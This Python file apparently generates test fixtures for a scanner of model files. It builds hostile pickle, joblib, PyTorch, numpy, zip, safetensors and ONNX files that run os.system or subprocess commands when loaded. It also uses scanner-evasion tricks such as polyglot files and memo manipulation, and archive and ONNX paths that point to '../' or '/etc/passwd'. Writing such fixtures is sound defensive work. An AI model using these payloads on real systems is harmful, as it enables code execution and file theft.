"""Attacks and damage. Nothing here is ever loaded; payloads are objects with __reduce__, or opcodes written by hand."""

import builtins
import bz2
import gzip
import importlib
import io
import os
import pickle
import runpy
import struct
import subprocess
import timeit
import warnings
import zipfile
import zlib

import joblib
import numpy as np

import clean


class Calls:
    def __init__(self, function, *args):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


class Refers:
    """Pickles as a global of any name, whether it exists or not."""

    def __init__(self, module, name):
        self.text = f"c{module}\n{name}\n".encode()


def text(s):
    raw = s.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def call(module, name, command, proto=4):
    """module.name(command), by STACK_GLOBAL."""
    return b"\x80" + bytes([proto]) + text(module) + text(name) + b"\x93" + text(command) + b"\x85R."


def write(folder, command):
    expected = {}

    def put(name, data, verdict="unsafe", format="pickle"):
        (folder / name).write_bytes(data)
        expected[name] = {"format": format, "verdict": verdict}

    system = Calls(os.system, command)
    cmd = command.encode()
    for protocol in range(6):
        put(f"system-{protocol}.pkl", pickle.dumps(system, protocol))
        put(f"nested-{protocol}.pkl", pickle.dumps({"model": [1, 2, {"x": (3, system)}]}, protocol))
        put(f"eval-{protocol}.pkl", pickle.dumps(Calls(eval, f"__import__('os').system({command!r})"), protocol))
        put(f"copyreg-{protocol}.pkl", pickle.dumps(Calls(__import__("copyreg").add_extension, "a", "b", 1), protocol))
    put("exec.pkl", pickle.dumps(Calls(exec, "import os")))
    put("compile.pkl", pickle.dumps(Calls(exec, Calls(compile, "1", "x", "exec"))))
    put("popen.pkl", pickle.dumps(Calls(subprocess.Popen, ["true"])))
    put("check-output.pkl", pickle.dumps(Calls(subprocess.check_output, ["true"])))
    put("getattr.pkl", pickle.dumps(Calls(getattr, Calls(__import__, "os"), "system")))
    put("import-module.pkl", pickle.dumps(Calls(importlib.import_module, "os")))
    put("open.pkl", pickle.dumps(Calls(open, "/dev/null", "w")))
    put("runpy.pkl", pickle.dumps(Calls(runpy.run_path, "/dev/null")))
    put("timeit.pkl", pickle.dumps(Calls(timeit.timeit, "1")))
    put("breakpoint.pkl", pickle.dumps(Calls(builtins.breakpoint)))
    put("pickle-loads.pkl", pickle.dumps(Calls(pickle.loads, pickle.dumps(system))))
    for module, name in (("pip", "main"), ("torch", "load"), ("torch.storage", "_load_from_bytes"), ("numpy", "load"), ("webbrowser", "open"),
                         ("nt", "system"), ("code", "interact"), ("ctypes", "CDLL"), ("pty", "spawn"), ("types", "CodeType"), ("operator", "attrgetter"),
                         ("cloudpickle.cloudpickle", "_make_function"), ("numpy.testing._private.utils", "runstring"), ("joblib", "load"),
                         ("sklearn.utils._testing", "check_output"), ("multiprocessing.util", "spawnv_passfds"), ("bdb", "Bdb"), ("asyncio.unix_events", "_UnixSubprocessTransport"),
                         ("scipy.stats._distn_infrastructure", "rv_continuous"), ("idlelib.pyshell", "ModifiedInterpreter"), ("_frozen_importlib", "_find_and_load")):
        put(f"global-{module}.{name}.pkl", call(module, name, command))
    for module, name in (("functools", "partial"), ("some.private", "thing"), ("sklearn.nothing", "Here"), ("builtins", "map"), ("scipy.stats._continuous_distns", "uniform_gen"),
                         ("NUMPY", "ndarray"), ("numpy ", "ndarray"), ("numpy.\u0441ore.multiarray", "_reconstruct")):
        put(f"unlisted-{module.strip()}.{name}.pkl".replace("\u0441", "c"), call(module, name, command), "suspicious")
    opcodes(put, cmd)
    arrays(put, system, folder)
    containers(put, system, command)
    onnx(put)
    return expected


def opcodes(put, cmd):
    line = b"V" + cmd + b"\n"
    put("inst.pkl", b"(" + line + b"ios\nsystem\n.")
    put("obj.pkl", b"(cos\nsystem\n" + line + b"o.")
    put("newobj.pkl", b"\x80\x02csubprocess\nPopen\n" + text(cmd.decode()) + b"\x85\x81.")
    put("newobj-ex.pkl", b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93)}\x92.")
    put("memo-name.pkl", b"\x80\x04" + text("os") + b"\x94" + text("system") + b"\x9400h\x00h\x01\x93" + text(cmd.decode()) + b"\x85R.")
    put("memo-overwritten.pkl", b"\x80\x04" + text("numpy") + b"q\x05" + text("os") + b"q\x050h\x05" + text("system") + b"\x93)R.")
    put("memo-far.pkl", b"\x80\x04" + text("os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("system") + b"\x93)R.")
    put("memo-text.pkl", b"\x80\x04" + text("os") + b"p 0_7 \n0g7\n" + text("system") + b"\x93)R.")
    put("dup-name.pkl", b"\x80\x04" + text("os") + b"2" + b"0" + text("system") + b"\x93)R.")
    put("pop-mark.pkl", b"\x80\x04" + text("os") + b"(0" + text("system") + b"\x93)R.")
    put("string-name.pkl", b"S'o\\x73'\nS'\\163ystem'\n\x93(S'true'\ntR.")
    put("unicode-name.pkl", b"V\\u006fs\nVsyste\\u006d\n\x93(Vtrue\ntR.")
    put("binstring-name.pkl", b"T\x02\0\0\0osU\x06system\x93)R.")
    put("unicode8-name.pkl", b"\x80\x04\x8d" + struct.pack("<Q", 2) + b"os" + text("system") + b"\x93)R.")
    put("binunicode-name.pkl", b"\x80\x03X\x02\0\0\0osX\x06\0\0\0system\x93)R.")
    put("computed-name.pkl", b"\x80\x04" + text("os") + b"cbuiltins\nstr\n" + text("system") + b"\x85R\x93)R.")
    put("long-name.pkl", b"\x80\x04" + text("os") + b"X\xd0\x07\0\0" + b"x" * 2000 + b"\x93)R.")
    put("persistent-name.pkl", b"\x80\x04" + text("os") + b"Pid\n\x93)R.")
    getattr_ = b"\x80\x04" + text("builtins") + text("getattr") + b"\x93\x94"
    split = text("builtins") + text("str") + b"\x93" + text("split")
    put("getattr-kept.pkl", getattr_ + b".")
    put("getattr-popped.pkl", getattr_ + b"0N.")
    put("getattr-twice.pkl", getattr_ + split + b"\x86R0h\x00" + text("numpy") + text("ndarray") + b"\x93" + text("tofile") + b"\x86R.")
    put("getattr-duplicate.pkl", getattr_ + b"2" + split + b"\x86R0.")
    put("getattr-inst.pkl", getattr_ + b"0(" + text("builtins") + text("str") + b"\x93" + text("split") + b"ibuiltins\ngetattr\n.")
    put("getattr-obj.pkl", b"(" + getattr_ + split + b"o.")
    put("getattr-default.pkl", getattr_ + split + b"h\x00\x87R.")
    put("getattr-computed.pkl", getattr_ + text("builtins") + text("str") + b"\x93" + text("builtins") + text("str") + b"\x93" + text("split") + b"\x85R\x86R.")
    put("getattr-instance.pkl", getattr_ + text("builtins") + text("str") + b"\x93)R" + text("format") + b"\x86R.")
    put("getattr-other.pkl", getattr_ + text("zoneinfo") + text("ZoneInfo") + b"\x93" + text("from_file") + b"\x86R.")
    put("getattr-listed.pkl", getattr_ + b"]h\x00a0" + split + b"\x86R.")
    put("getattr-cut.pkl", getattr_)
    put("getattr-name.pkl", getattr_ + text("builtins") + text("str") + b"\x93" + text("lower") + b"\x86R" + text("OS") + b"\x85R" + text("system") + b"\x93.")
    put("getattr-python2.pkl", b"c__builtin__\ngetattr\n(cnumpy\nndarray\nVtofile\ntR.")
    put("dotted.pkl", b"\x80\x04" + text("sklearn.utils") + text("os.system") + b"\x93)R.")
    put("dotted-os.pkl", b"\x80\x04" + text("os") + text("path.os.system") + b"\x93)R.")
    put("dotted-plain.pkl", b"\x80\x04" + text("numpy") + text("ndarray.tolist") + b"\x93)R.", "suspicious")
    put("dotted-globals.pkl", b"\x80\x04" + text("collections") + text("OrderedDict.__init__.__globals__") + b"\x93.")
    for name, code in (("ext1", b"\x82\x01"), ("ext2", b"\x83\x01\x01"), ("ext4", b"\x84\x01\x01\0\0")):
        put(f"{name}.pkl", b"\x80\x02" + code + b".")
    put("python2-eval.pkl", b"c__builtin__\neval\n(Vtrue\ntR.")
    put("python2-commands.pkl", b"\x80\x02ccommands\ngetoutput\nVtrue\n\x85R.")
    put("python2-eval-4.pkl", b"\x80\x04c__builtin__\neval\n)R.")
    put("python2-object-4.pkl", b"\x80\x04c__builtin__\nobject\n)R.", "suspicious")
    put("python2-imap.pkl", b"\x80\x02citertools\nimap\n)R.", "suspicious")
    put("protocol-switch.pkl", b"\x80\x02\x80\x04" + text("os") + text("system") + b"\x93)R.")
    put("build-class.pkl", b"\x80\x04" + text("collections") + text("OrderedDict") + b"\x93}" + text("x") + b"K\x01sb.")
    put("build-swap.pkl", b"\x80\x04" + text("sklearn.utils._bunch") + text("Bunch") + b"\x93)\x81N}" + text("__class__") + text("builtins") + text("object") + b"\x93s\x86b.")
    put("build-os.pkl", b"\x80\x04" + text("sklearn.utils._bunch") + text("Bunch") + b"\x93)\x81N}" + text("__setstate__") + text("os") + text("system") + b"\x93s\x86b" + text(cmd.decode()) + b"b.")
    put("call-of-call.pkl", b"\x80\x04" + text("collections") + text("OrderedDict") + b"\x93)R)R.", "suspicious")
    put("persistent.pkl", b"\x80\x04Pid\n.", "suspicious")
    put("out-of-band.pkl", pickle.dumps(np.arange(3), 5, buffer_callback=lambda b: None), "suspicious")
    put("truncated-after-import.pkl", b"\x80\x04" + text("os") + text("system") + b"\x93" + text(cmd.decode()) + b"\x85R")
    put("truncated.pkl", pickle.dumps(list(range(100)) + [clean.X])[:-20], "malformed")
    put("cut-frame.pkl", pickle.dumps({"a": "b" * 50, "c": [1, 2, 3]}, 4)[:-7], "malformed")
    put("long-frame.pkl", b"\x80\x04\x95\xff\0\0\0\0\0\0\0" + text("os") + text("system") + b"\x93)R.")
    put("no-opcode.pkl", b"\x80\x04}\x94\xff.", "malformed")
    put("underflow.pkl", b"\x80\x04NN\x87.", "malformed")
    put("negative.pkl", b"\x80\x02NNT\xff\xff\xff\xff.", "malformed")
    put("huge-length.pkl", b"\x80\x04NN\x8e" + b"\xff" * 8 + b".", "malformed")
    put("protocol-6.pkl", b"\x80\x04N0\x80\x06N.", "malformed")
    put("forgotten.pkl", b"\x80\x04N0h\x09.", "malformed")
    put("trailing.pkl", pickle.dumps([1, 2, 3]) + b"more", "malformed")
    put("second-stream.pkl", pickle.dumps([1, 2, 3]) + pickle.dumps(Calls(os.system, cmd.decode())))
    put("second-stream-0.pkl", pickle.dumps([1, 2, 3], 0) + pickle.dumps(Calls(os.system, cmd.decode()), 0))
    put("text-behind.pkl", b"cos\nsystem\n(Vtrue\ntR.\n# a friendly text file\n")


def wrapper(dtype, shape, extra=b"", align=16):
    """joblib's NumpyArrayWrapper up to and with its BUILD, protocol 4 without frames."""
    state = b"}(" + text("subclass") + text("numpy") + text("ndarray") + b"\x93" + text("shape") + shape + text("order") + text("C") + text("dtype") + dtype
    if align:
        state += text("numpy_array_alignment_bytes") + b"K" + bytes([align])
    return text("joblib.numpy_pickle") + text("NumpyArrayWrapper") + b"\x93)\x81" + state + text("allow_mmap") + b"\x88u" + extra + b"b"


def dtype(name, flags=0, own=True):
    state = b"(K\x03" + text("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xff" + b"K" + bytes([flags]) + b"t"
    return text("numpy") + text("dtype") + b"\x93" + text(name) + b"\x89" + (b"\x88" if own else b"\x89") + b"\x87R" + state + b"b"


RUN = text("os") + text("system") + b"\x93" + text("true") + b"\x85R"


def padded(start):
    """Where joblib would put the array's bytes, and the padding before them."""
    length = 16 - (len(start) + 1) % 16
    return start + bytes([length]) + b"\xff" * length


def size(data):
    return b"J" + struct.pack("<i", len(data)) + b"\x85"


def old_joblib(eight):
    """Harmless, but before joblib 1.2 the last bytes of the array put os.system in the place of a list in the memo."""
    start = b"\x80\x04" + text("builtins") + text("list") + b"\x93q\x050" + b"]("
    while (len(start + wrapper(eight, b"K\x08\x85")) + 1) % 16 != 0:
        start = start[:2] + b"N0" + start[2:] if len(start + wrapper(eight, b"K\x08\x85")) % 2 else start[:2] + b"K\x000" + start[2:]
    tail = (b"0cos\nsystem\nq\x05" + b"N0N").rjust(17, b"N")
    return padded(start + wrapper(eight, b"K\x08\x85")) + bytes(64 - len(tail)) + tail + b"h\x05" + text("true") + b"\x85Re."


def arrays(put, system, folder):
    path = folder / "made.joblib"

    def dumped(value, **options):
        joblib.dump(value, path, **options)
        data = path.read_bytes()
        path.unlink()
        return data

    put("array-then-payload.joblib", dumped([clean.X, system]), format="joblib")
    put("payload-then-array.joblib", dumped([system, clean.X]), format="joblib")
    put("object-array.joblib", dumped({"a": np.array([1, system], dtype=object)}), format="joblib")
    put("mixed-array.joblib", dumped(np.array([(1, system)], dtype=[("a", "i4"), ("b", "O")])), format="joblib")
    for compression in ("zlib", "gzip"):
        put(f"{compression}.joblib", dumped([clean.X, system], compress=(compression, 3)), format="joblib")
    put("plain-gzip.pkl", gzip.compress(pickle.dumps(system)), format="joblib")
    put("gzip-trailing.pkl", gzip.compress(pickle.dumps([1, 2])) + b"x", "malformed", "joblib")
    put("gzip-two.pkl", gzip.compress(pickle.dumps([1, 2])) + gzip.compress(pickle.dumps(system)), "malformed", "joblib")
    put("zlib-cut.pkl", zlib.compress(pickle.dumps([clean.X, system]))[:-3], format="joblib")
    put("bz2.joblib", bz2.compress(pickle.dumps(system)), "unknown", "joblib")
    put("array-cut.joblib", dumped([clean.X, system])[:400], "malformed", "joblib")
    start = b"\x80\x04]("
    end = b"e."
    eight = dtype("i8")
    one = b"K\x01\x85"
    put("custom-class.joblib", dumped([clean.made("my_library", "Model"), clean.OBJECTS]), "suspicious", "joblib")
    # What names the nested pickle has depends on whose memo it is read on.
    for module, name, verdict in (("os", "system", "unsafe"), ("my_library", "run", "suspicious")):
        memo = text(module) + b"q\x000" + text(name) + b"q\x010"
        nested = b"\x80\x04" + text("builtins") + b"\x940" + text("list") + b"\x940h\x00h\x01\x93)R."
        put(f"other-memo-{module}.joblib", b"\x80\x04" + memo + b"](" + wrapper(dtype("O8", 63), one) + nested + end, verdict, "joblib")
    put("made.joblib", padded(start + wrapper(eight, one)) + bytes(8) + RUN + end, format="joblib")
    put("made-old.joblib", start + wrapper(eight, one, align=False) + bytes(8) + RUN + end, format="joblib")
    put("lying-flags.joblib", start + wrapper(dtype("i8", 1), one) + b"\x80\x04" + RUN + b"." + end, format="joblib")
    put("lying-object.joblib", padded(start + wrapper(dtype("O8", 0), one)) + bytes(8) + RUN + end, format="joblib")
    put("shared-type.joblib", start + wrapper(dtype("i8", 1, own=False), one) + b"\x80\x04" + RUN + b"." + end, format="joblib")
    put("unknown-type.joblib", start + wrapper(b"N", one) + bytes(8) + RUN + end, "suspicious", "joblib")
    put("unknown-shape.joblib", start + wrapper(eight, b"](e") + bytes(8) + RUN + end, "suspicious", "joblib")
    # The wrapper's own read() is replaced, so that joblib.load takes the array's bytes for opcodes.
    method = text("read") + text("collections") + text("OrderedDict") + b"\x93"
    put("own-read.joblib", start + wrapper(eight, b"K\x08\x85" + method, align=False) + b"N0" * 32 + RUN + end, format="joblib")
    # Behind half a million values on the stack, what a tuple holds is no longer followed.
    deep = b"\x80\x04](" + b"N" * 500_001 + wrapper(dtype("i8", 1), one) + b"\x80\x04" + RUN + b"." + end
    put("deep.joblib", deep, "suspicious", "joblib")
    put("raw-objects.pkl", b"\x80\x04" + dtype("O8", 1) + b".")
    put("in-frame.joblib", b"\x80\x04\x95" + struct.pack("<Q", 4000) + b"](" + wrapper(eight, one) + bytes(8) + b"e." + b"N" * 4000, "malformed", "joblib")
    put("hidden-wrapper.joblib", start + text("joblib.numpy_pickle") + text("NumpyArrayWrapper") + b"\x93)\x81\x85" + end, format="joblib")
    # What pickle.load takes for opcodes, joblib.load takes for the numbers of an array.
    two = RUN + b"." + bytes(64 - len(RUN) - 1)
    put("two-programs.joblib", start + wrapper(eight, b"K\x08\x85", align=False) + two + end, format="joblib")
    put("two-programs-pad.joblib", start + wrapper(eight, b"K\x08\x85") + b"\x80\x04" + two + end, format="joblib")
    # So does joblib before 1.2 with as many bytes at the array's end as the padding has that it does not know of.
    put("pad-255.joblib", start + wrapper(eight, b"K\x08\x85", align=255) + bytes([len(RUN)]) + b"\xff" * len(RUN) + bytes(63 - len(RUN)) + b"0" + RUN + end, "malformed", "joblib")
    put("pad-16.joblib", old_joblib(eight), format="joblib")
    # A second program behind more harmless opcodes than anyone wants to count.
    long = b"N0" * 600_000 + RUN + b"."
    put("two-programs-long.joblib", start + wrapper(dtype("u1"), size(long), align=0) + long + end, format="joblib")
    endless = b"N0" * 14_000_000 + RUN + b"."
    put("two-programs-endless.joblib", start + wrapper(dtype("u1"), size(endless), align=0) + endless + end, "suspicious", "joblib")
    for name, pack in (("zlib", zlib.compress), ("gzip", gzip.compress)):
        put(f"two-programs-{name}.joblib", pack(start + wrapper(eight, b"K\x08\x85", align=0) + two + end), format="joblib")
        put(f"pad-16-{name}.joblib", pack(old_joblib(eight)), format="joblib")
        put(f"two-programs-long-{name}.joblib", pack(start + wrapper(dtype("u1"), size(long), align=0) + long + end), format="joblib")
    put("two-programs-deflated.zip", archive(("a", start + wrapper(eight, b"K\x08\x85", align=0) + two + end), compression=zipfile.ZIP_DEFLATED), format="zip")
    buffer = io.BytesIO()
    np.save(buffer, np.array([system], dtype=object), allow_pickle=True)
    put("object.npy", buffer.getvalue(), format="npy")
    buffer = io.BytesIO()
    np.savez_compressed(buffer, a=np.array([system], dtype=object))
    put("object.npz", buffer.getvalue(), format="npz")
    buffer = io.BytesIO()
    np.save(buffer, clean.X)
    put("cut.npy", buffer.getvalue()[:-1], "malformed", "npy")
    put("long.npy", buffer.getvalue() + b"x", "malformed", "npy")


def archive(*members, compression=zipfile.ZIP_STORED):
    buffer = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w", compression) as z:
        warnings.simplefilter("ignore")
        for name, content in members:
            z.writestr(name, content)
    return buffer.getvalue()


def containers(put, system, command):
    def torch(name, data, verdict="unsafe", **options):
        buffer = io.BytesIO()
        clean.torch_zip(buffer, data, **options)
        put(name, buffer.getvalue(), verdict, "torch")
        return buffer.getvalue()

    run = RUN + b"0"
    torch("hostile.pt", clean.torch_pickle(run))
    torch("hostile-deflated.pt", clean.torch_pickle(run), compression=zipfile.ZIP_DEFLATED)
    torch("hostile-extra.pt", clean.torch_pickle(), extra=[("archive/extra.bin", pickle.dumps(system))])
    torch("script.pt", clean.torch_pickle(), "suspicious", extra=[("archive/code/a.py", "def f(): pass")])
    good = torch("twice.pt", clean.torch_pickle(), "malformed", extra=[("archive/data.pkl", clean.torch_pickle())])
    plain = archive(("a.txt", "text"), ("b.pkl", pickle.dumps([1])))
    put("members.zip", plain, "unknown", "zip")
    put("hostile.zip", archive(("a.txt", "text"), ("b.txt", pickle.dumps(system))), format="zip")
    put("hostile-gz.zip", archive(("a.txt", "text"), ("b.bin", gzip.compress(pickle.dumps(system)))), "unknown", "zip")
    put("duplicate.zip", archive(("a", "1"), ("a", "2")), "malformed", "zip")
    put("prepended.zip", b"#!/bin/sh\n" + plain, "malformed", "zip")
    put("trailing.zip", plain + b"x", "malformed", "zip")
    put("up.zip", archive(("../evil", "1")), "unsafe", "zip")
    put("absolute.zip", archive(("/etc/evil", "1")), "unsafe", "zip")
    put("backslash.zip", plain.replace(b"a.txt", b"a\\txt"), "malformed", "zip")
    put("other-name.zip", plain.replace(b"a.txt", b"z.txt", 1), "malformed", "zip")
    link = zipfile.ZipInfo("link")
    link.create_system, link.external_attr = 3, 0o120777 << 16
    put("link.zip", archive((link, "/etc/passwd")), "unsafe", "zip")
    put("encrypted.zip", flagged(plain, 1), "malformed", "zip")
    put("flags.zip", flagged(plain, 0x2000), "malformed", "zip")
    put("appended.pkl", pickle.dumps([1, 2, 3]) + good, "malformed")
    legacy = io.BytesIO()
    legacy.write_bytes = legacy.write
    clean.legacy_torch(legacy, clean.torch_pickle(run).replace(b"K\x02tq\x07Q", b"K\x02Ntq\x07Q"))
    put("legacy.pt", legacy.getvalue(), "unsafe", "torch")
    header = b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    safetensors(put, header)


def flagged(data, bit):
    out = bytearray(data)
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = 0
        while (place := data.find(signature, place)) >= 0:
            out[place + at] |= bit & 255
            out[place + at + 1] |= bit >> 8
            place += 4
    return bytes(out)


def safetensors(put, header):
    def file(name, header, data=b"\0\0\0\0"):
        put(f"{name}.safetensors", struct.pack("<Q", len(header)) + header + data, "malformed", "safetensors")

    file("short", header, b"\0\0\0")
    file("long", header, b"\0" * 5)
    file("twice", header[:-1] + b"," + header[1:])
    file("hole", header.replace(b"[0,4]", b"[1,5]"), b"\0" * 5)
    file("size", header.replace(b"[1]", b"[2]"))
    file("type", header.replace(b"F32", b"F33"))
    file("overflow", header.replace(b"[1]", b"[4294967296,4294967296,4294967296]"))
    file("overlap", b'{"a":{"dtype":"U8","shape":[3],"data_offsets":[0,3]},"b":{"dtype":"U8","shape":[2],"data_offsets":[2,4]}}')
    file("inner-twice", header.replace(b'"shape":[1]', b'"shape":[1],"shape":[1]'))
    file("no-json", header.replace(b":", b"=", 1))
    put("also-pickle.safetensors", two_formats(), format="safetensors")
    put("cut.safetensors", struct.pack("<Q", 500) + header, "malformed", "safetensors")


def two_formats():
    """Valid safetensors whose length reads as the opcode X, which leads by steps of C~ to a pickle among the tensors."""
    size = 0x2058  # X, then a text of 0x20 bytes
    data = RUN + b"."
    header = bytearray(b'{"__metadata__":{"a":"' + b"a" * size)[:size]
    tail = b'"},"a":{"dtype":"U8","shape":[%d],"data_offsets":[0,%d]}}' % (len(data), len(data))
    header[size - len(tail) :] = tail
    header[29:31] = b"C9"  # 57 bytes on, so that steps of 128 reach the tensors exactly
    for at in range(88, size, 128):
        header[at : at + 2] = b"C~"
    return struct.pack("<Q", size) + bytes(header) + data


def onnx(put):
    from onnx import TensorProto, helper

    def tensor(location):
        t = helper.make_tensor("w", TensorProto.FLOAT, [4], np.ones(4, "f4").tobytes(), raw=True)
        clean.outside(t, location)
        return t

    def model(initializers=(), nodes=(), sparse=()):
        graph = helper.make_graph(list(nodes) or [helper.make_node("Identity", ["w"], ["y"])], "g", [], [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])], list(initializers))
        graph.sparse_initializer.extend(sparse)
        return helper.make_model(graph)

    def put_model(name, m, verdict="unsafe"):
        put(f"{name}.onnx", m.SerializeToString(), verdict, "onnx")

    for name, location in (("parent", "../secret"), ("absolute", "/etc/passwd"), ("folder", "a/../../b"), ("backslash", "..\\b"), ("drive", "C:b"), ("empty", "")):
        put_model(f"external-{name}", model([tensor(location)]))
    put_model("external-attribute", model(nodes=[helper.make_node("Constant", [], ["y"], value=tensor("../x"))]))
    inner = helper.make_graph([helper.make_node("Constant", [], ["z"], value=tensor("../x"))], "inner", [], [helper.make_tensor_value_info("z", TensorProto.FLOAT, [4])])
    put_model("external-subgraph", model(nodes=[helper.make_node("If", ["c"], ["y"], then_branch=inner, else_branch=inner)]))
    sparse = helper.make_sparse_tensor(tensor("../x"), helper.make_tensor("i", TensorProto.INT64, [4], [0, 1, 2, 3]), [4])
    put_model("external-sparse", model(sparse=[sparse]))
    m = model()
    m.functions.append(helper.make_function("d", "f", [], ["y"], [helper.make_node("Constant", [], ["y"], value=tensor("../x"))], [helper.make_opsetid("", 20)]))
    put_model("external-function", m)
    m = model()
    m.training_info.add().initialization.CopyFrom(helper.make_graph([], "t", [], [], [tensor("../x")]))
    put_model("external-training", m)
    m = model([helper.make_tensor("w", TensorProto.FLOAT, [400], np.ones(400, "f4").tobytes(), raw=True)])
    put("cut.onnx", m.SerializeToString()[:-300], "malformed", "onnx")
